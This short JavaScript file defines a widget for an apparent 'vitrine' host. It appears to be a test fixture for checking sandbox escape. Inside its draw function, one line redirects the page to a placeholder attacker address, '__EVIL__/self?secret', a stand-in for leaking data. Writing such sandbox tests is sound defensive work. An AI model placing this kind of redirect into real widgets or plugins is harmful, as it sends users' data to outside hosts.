vitrine.defineWidget({
  async draw(root) {
    root.append('drawn');
    location.href = '__EVIL__/self?secret';
    return { summary: 'drawn' };
  },
});
